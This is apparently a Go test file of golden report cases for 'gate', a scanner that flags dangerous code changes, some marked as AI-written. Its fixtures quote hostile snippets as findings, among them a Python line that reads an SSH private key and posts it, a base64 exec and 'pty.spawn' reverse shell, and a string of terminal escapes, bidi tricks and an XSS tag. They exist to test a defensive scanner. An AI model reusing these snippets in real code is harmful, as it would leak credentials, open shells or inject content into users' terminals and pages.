package report

import (
	"strings"

	"github.com/aigate/gate/gate"
)

// testCase is a result that every format is held against.
type testCase struct {
	name   string
	result gate.Result
}

// hostileText carries, in one line, what some format obeys.
const hostileText = "\x1b[2J\x1b]0;pwned\x07 \u202Egpj.exe\u2066 a\u200bb\u00ad \U000E0041 \r\x00\u009b31m\u0085\u2028" +
	" `` ` ``` ](https://example.com/x) ![i](https://example.com/i.png) <img src=x onerror=alert(1)> <!-- --> </details></code>" +
	" @octocat #1 https://example.com www.example.com mail@example.com | a \\| b || ~~s~~ **b** _e_ $x$ &lt;b&gt; {{.}} ]]> ::set-output name=x::y" +
	" e\u0301\u0301\u0301\u0301\u0301\u0301\u0301 漢字 ｆｕｌｌ \u3164\u2800\ufe0f \xff\xfe"

// hostileBlock is the same with lines that some format takes for structure.
const hostileBlock = "# heading\n- item\n> quote\n```\n~~~\n|a|b|\n|-|-|\n<details>\n\n[x]: https://example.com\n    code\n---\n" + hostileText

func layersRan(judge, sandbox gate.LayerResult) []gate.LayerResult {
	return []gate.LayerResult{{Name: gate.LayerStatic, Status: gate.LayerRan, DurationMS: 41}, judge, sandbox}
}

func notSelectedLayer(l gate.Layer) gate.LayerResult {
	return gate.LayerResult{Name: l, Status: gate.LayerSkipped, Reason: notSelected}
}

func noJudge() gate.LayerResult {
	return gate.LayerResult{Name: gate.LayerJudge, Status: gate.LayerSkipped,
		Reason: "no Ollama server answers at http://127.0.0.1:11434 (install it from https://ollama.com, then `ollama pull qwen2.5-coder:14b`)"}
}

func sandboxRan() gate.LayerResult {
	return gate.LayerResult{Name: gate.LayerSandbox, Status: gate.LayerRan, DurationMS: 2310}
}

func judgeRan() gate.LayerResult {
	return gate.LayerResult{Name: gate.LayerJudge, Status: gate.LayerRan, DurationMS: 8123}
}

func document(d gate.Decision, v gate.Verdict, layers []gate.LayerResult, files ...gate.FileResult) gate.Result {
	r := gate.Result{
		SchemaVersion: gate.SchemaVersion, Tool: gate.Tool{Name: "gate", Version: "v0.1.0"},
		Decision: d, Verdict: v, Layers: layers, Files: files,
	}
	for _, f := range files {
		r.RiskScore = max(r.RiskScore, f.RiskScore)
	}
	return canonical(r)
}

func file(path string, v gate.Verdict, risk int, findings ...gate.Finding) gate.FileResult {
	return gate.FileResult{
		Path: path, Language: gate.LanguagePython, SHA256: strings.Repeat("5a", 32), Verdict: v, RiskScore: risk,
		Change: gate.ChangeModified, Role: gate.RoleSource, Findings: findings,
	}
}

func found(l gate.Layer, rule string, s gate.Severity, line int, message, evidence string) gate.Finding {
	category, _, _ := strings.Cut(rule, "/")
	return gate.Finding{Rule: rule, Category: category, Layer: l, Severity: s, Line: line, EndLine: line,
		Message: message, Evidence: evidence, InChange: true}
}

func exited(code int, command ...string) *gate.Execution {
	return &gate.Execution{
		Status: gate.ExecutionExited, ExitCode: code, DurationMS: 340, Engine: "docker 28.5.2", Runtime: "runc", Image: "gate-sandbox-python:1",
		Units: []gate.Unit{{Kind: "script", Command: command, Status: gate.ExecutionExited, ExitCode: code, DurationMS: 340,
			Stdout: gate.Output{Text: "hello\nworld\n", Bytes: 12}}},
		Resources: gate.Resources{CPUMS: 210, MemoryBytes: 18 << 20, Pids: 3},
		Coverage:  map[string]int{"changed": 15, "executable": 12, "executed": 9}, Uncovered: []gate.LineRange{{5, 6}, {9, 9}},
	}
}

// cases returns the results of the golden files.
func cases() []testCase {
	return []testCase{
		{"empty", document(gate.DecisionPass, gate.Safe, layersRan(notSelectedLayer(gate.LayerJudge), notSelectedLayer(gate.LayerSandbox)))},
		{"pass", passCase()},
		{"suspicious", suspiciousCase()},
		{"dangerous", dangerousCase()},
		{"incomplete", incompleteCase()},
		{"override", overrideCase()},
		{"suppressed", suppressedCase()},
		{"three", threeCase()},
		{"hostile", hostileCase()},
	}
}

func passCase() gate.Result {
	a := file("src/app.py", gate.Safe, 3, found(gate.LayerStatic, "shell-out/subprocess", gate.SeverityNote, 4, "starts a program with fixed arguments", `subprocess.run(["git", "status"])`))
	a.Execution = exited(0, "python3", "-I", "src/app.py")
	b := file("README.md", gate.Safe, 0)
	b.Language, b.Role = gate.LanguageMarkdown, gate.RoleDocs
	r := document(gate.DecisionPass, gate.Safe, layersRan(noJudge(), sandboxRan()), a, b)
	r.Skipped = []gate.Skip{{Path: "vendor/", Reason: "excluded by paths.exclude"}}
	return r
}

func suspiciousCase() gate.Result {
	a := file("tools/sync.sh", gate.Suspicious, 51,
		found(gate.LayerStatic, "exfiltration/curl-post", gate.SeveritySuspicious, 12, "sends a file to a server", "curl -d @report.csv https://example.com"),
		found(gate.LayerStatic, "credentials/env-file", gate.SeveritySuspicious, 0, "is a file of credentials", ""))
	outside := found(gate.LayerStatic, "shell-out/eval", gate.SeverityDangerous, 90, "runs a string as code", `eval "$1"`)
	outside.InChange = false
	a.Findings = append(a.Findings, outside)
	return document(gate.DecisionPass, gate.Suspicious, layersRan(notSelectedLayer(gate.LayerJudge), notSelectedLayer(gate.LayerSandbox)), a)
}

func dangerousCase() gate.Result {
	flow := found(gate.LayerStatic, "exfiltration/file-post", gate.SeverityDangerous, 14, "sends a private key to a server", "requests.post(URL,\n\tdata=key)")
	flow.EndLine = 15
	flow.Flow = []gate.Step{{Line: 9, Text: `key = open(os.path.expanduser("~/.ssh/id_rsa")).read()`}, {Line: 14, Text: "requests.post(URL, data=key)"}}
	corroborated := found(gate.LayerStatic, "network/raw-socket", gate.SeveritySuspicious, 20, "opens a raw socket", "socket.socket()")
	corroborated.CorroboratedBy = "judge:judge/dangerous"
	judged := found(gate.LayerJudge, "judge/dangerous", gate.SeverityDangerous, 20, "the model calls this dangerous", "socket.socket()")
	silenced := found(gate.LayerStatic, "shell-out/subprocess", gate.SeveritySuspicious, 30, "starts a program", "subprocess.run(cmd)")
	silenced.Suppressed = &gate.Suppression{By: ".gate.yml line 4", Reason: "the command is a constant"}
	a := file("app/sync.py", gate.Dangerous, 98, flow, corroborated, judged, silenced)
	a.Attribution = gate.Attribution{Basis: "marked", AI: true, Agents: []string{"Claude Code"}, Confidence: 0.95,
		Evidence: []gate.Evidence{{Source: "trailer", Text: "Co-Authored-By: Claude <noreply@anthropic.com>"}}, Lines: []gate.LineRange{{1, 40}}}
	a.Judge = &gate.Judgement{Model: "qwen2.5-coder:14b", Digest: "sha256:0123", PromptVersion: "1", Verdict: gate.Dangerous,
		Reason: "reads a private key and sends it away", DangerousLines: []int{9, 14, 20}, Cached: true, DurationMS: 4100}
	a.Execution = &gate.Execution{Status: gate.ExecutionNotRun, Reason: "a layer already calls the file dangerous (sandbox.dangerous: skip)"}

	b := file("setup.py", gate.Dangerous, 75, found(gate.LayerStatic, "obfuscation/base64-exec", gate.SeveritySuspicious, 3, "decodes text", "exec(base64.b64decode(P))"))
	b.Execution = exited(1, "python3", "-I", "setup.py", "--help")
	b.Execution.Units[0].Stderr = gate.Output{Text: strings.Repeat("Traceback (most recent call last)\n", 14), Bytes: 1 << 31, Truncated: true}
	b.Execution.StandIns = []string{"requests", "yaml"}
	b.Execution.Cached, b.Execution.Units[0].Cached = true, true
	b.Execution.Coverage, b.Execution.Uncovered, b.Execution.CoverageReason = nil, nil, "the run was ended before it told which of its lines ran"
	b.Execution.Behaviour = []gate.Behaviour{{Kind: "connect", Detail: "198.51.100.7:443", Count: 3}, {Kind: "write", Detail: "/workspace/marker", Count: 1}}
	child := file("setup.py!base64:3", gate.Dangerous, 75, found(gate.LayerStatic, "reverse-shell/python", gate.SeverityDangerous, 1, "gives a shell to a server", "pty.spawn('/bin/sh')"))
	child.Parent, child.Change = "setup.py", gate.ChangeAdded
	child.Findings[0].Origin = "base64 on line 3"
	gone := file(".github/workflows/ci.yml", gate.Suspicious, 30, found(gate.LayerStatic, "protected/deleted", gate.SeveritySuspicious, 0, "a protected file was deleted", ""))
	gone.Change, gone.Language, gone.Role, gone.SHA256 = gate.ChangeDeleted, gate.LanguageWorkflow, gate.RoleCI, ""
	return document(gate.DecisionBlock, gate.Dangerous, layersRan(judgeRan(), sandboxRan()), a, b, child, gone, file("lib/ok.py", gate.Safe, 0))
}

// suppressedCase passes because of what a comment and the baseline accept, and
// has a suppression that does nothing.
func suppressedCase() gate.Result {
	byComment := found(gate.LayerStatic, "dynamic-code/eval", gate.SeverityDangerous, 8, "runs text as code", "eval(FORMULA)")
	byComment.Suppressed = &gate.Suppression{By: gate.SuppressedInSource + " on line 7 (until 2027-01-31)", Reason: "the formula is a constant"}
	byBaseline := found(gate.LayerStatic, "exfiltration/file-post", gate.SeverityDangerous, 21, "sends a file to a server", "requests.post(URL, data=report)")
	byBaseline.Suppressed = &gate.Suppression{By: ".gate-baseline.json line 4", Reason: "reviewed on adoption"}
	aNote := found(gate.LayerStatic, "shell-out/subprocess", gate.SeverityNote, 30, "starts a program", "subprocess.run(cmd)")
	aNote.Suppressed = &gate.Suppression{By: ".gate-baseline.json line 5", Reason: "reviewed on adoption"}
	judged := found(gate.LayerJudge, "judge/suspicious", gate.SeveritySuspicious, 21, "the model is not sure", "data=report")
	judged.Suppressed = &gate.Suppression{By: ".gate-baseline.json line 6", Reason: "reviewed on adoption"}
	idle := found(gate.LayerStatic, "suppression/malformed", gate.SeverityNote, 40, "a comment looks like a suppression and is none: it names no rule", "gate:allow")
	return document(gate.DecisionPass, gate.Safe, layersRan(judgeRan(), notSelectedLayer(gate.LayerSandbox)),
		file("app/report.py", gate.Safe, 3, byComment, byBaseline, aNote, judged, idle))
}

func incompleteCase() gate.Result {
	a := file("src/big.py", gate.Incomplete, 30)
	b := file("src/slow.py", gate.Incomplete, 51, found(gate.LayerStatic, "network/fetch", gate.SeveritySuspicious, 2, "fetches from the network", "urlopen(u)"))
	b.Execution = &gate.Execution{Status: gate.ExecutionFailed, Reason: "the engine went away"}
	r := document(gate.DecisionIncomplete, gate.Incomplete, layersRan(judgeRan(),
		gate.LayerResult{Name: gate.LayerSandbox, Status: gate.LayerFailed, Reason: "the engine went away", DurationMS: 900}), a, b)
	r.Incomplete = []gate.Gap{
		{Layer: gate.LayerSandbox, Path: "", Reason: "the engine went away"},
		{Layer: gate.LayerJudge, Path: "src/big.py", Reason: "140 KiB do not fit the model's context of 32768 tokens"},
		{Layer: gate.LayerStatic, Path: "src/big.py", Reason: "140 KiB is more than limits.file-size (100 KiB)"},
	}
	return r
}

func overrideCase() gate.Result {
	r := incompleteCase()
	r.Override = &gate.Overridden{By: "octocat", Label: "gate:override", Reason: "the engine is down and *this* must ship", Decision: r.Decision}
	r.Decision = gate.DecisionPass
	return r
}

// hostileCase has hostile text wherever a change, a program or a model can put
// some.
func hostileCase() gate.Result {
	f := found(gate.LayerStatic, "exec/eval", gate.SeverityDangerous, 7, hostileText, hostileBlock)
	f.Origin, f.Flow = hostileText, []gate.Step{{Line: 1, Text: hostileText}}
	f.Suppressed = &gate.Suppression{By: hostileText, Reason: hostileText}
	f2 := found(gate.LayerSandbox, "exec/eval", gate.SeverityDangerous, 0, hostileText, hostileText)
	a := file("src/`|<b>@octocat\n\u202Ef|.py", gate.Dangerous, 80, f, f2)
	a.OldPath = "old\x1b[31m.py"
	a.Attribution = gate.Attribution{Basis: "marked", AI: true, Agents: []string{hostileText}, Confidence: 1,
		Evidence: []gate.Evidence{{Source: hostileText, Text: hostileText}}}
	a.Judge = &gate.Judgement{Model: hostileText, PromptVersion: hostileText, Verdict: gate.Safe, Reason: hostileText}
	a.Execution = exited(0, "python3", hostileText)
	a.Execution.Reason, a.Execution.Image, a.Execution.StandIns = hostileText, hostileText, []string{hostileText}
	a.Execution.CoverageReason = hostileText
	a.Execution.Units[0].Stdout.Text, a.Execution.Units[0].Stderr.Text = hostileBlock, strings.Repeat("`", 9)+"\n"+hostileBlock
	a.Execution.Behaviour = []gate.Behaviour{{Kind: hostileText, Detail: hostileText, Count: 2}}
	r := document(gate.DecisionBlock, gate.Dangerous, layersRan(judgeRan(), sandboxRan()), a)
	r.Layers[1].Reason = hostileText
	r.Tool.Version = "v0 " + strings.ToValidUTF8(hostileText[:40], "")
	r.Incomplete = []gate.Gap{{Layer: gate.LayerSandbox, Path: a.Path, Reason: hostileText}, {Layer: gate.LayerJudge, Reason: hostileText}}
	r.Skipped = []gate.Skip{{Path: "x\x1b]8;;https:example.com\x07y", Reason: hostileText}}
	return canonical(r)
}

// documentedRules is what the golden files have of rules.
func documentedRules() []gate.Rule {
	return []gate.Rule{
		{ID: "exfiltration/file-post", Title: "sends a file to a server", Why: "Secrets that leave the machine are lost.",
			Instead: "Send only what the feature needs, and never read a credential file.", Severity: gate.SeverityDangerous, Refs: []string{"CWE-200", "T1041"}},
		{ID: "exec/eval", Title: hostileText, Why: hostileText, Instead: hostileText, Severity: gate.SeverityDangerous, Refs: []string{hostileText}},
	}
}
